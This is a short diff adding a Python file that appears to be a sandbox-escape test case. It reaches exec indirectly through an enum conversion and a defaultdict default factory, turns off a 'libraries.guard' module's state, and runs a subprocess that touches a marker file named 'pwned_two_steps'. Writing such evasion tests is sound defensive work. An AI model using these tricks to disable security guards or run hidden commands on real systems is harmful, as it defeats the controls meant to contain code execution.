@@ -1,0 +1,19 @@
+"""file: subprocess is got by an enumeration, and called by a default."""
+
+import collections
+import enum
+import functools
+
+CODE = """
+import sys
+[m._State.update(on=False) for n, m in [*sys.modules.items()] if n.endswith("libraries.guard")]
+__import__("subprocess").run(["touch", "pwned_two_steps"])
+"""
+
+
+class Kind(enum.Enum):
+    pass
+
+
+run = Kind._convert_("Found", "builtins", lambda name: name == "exec")["exec"].value
+x = collections.defaultdict(functools.partial(run, CODE))["now"]
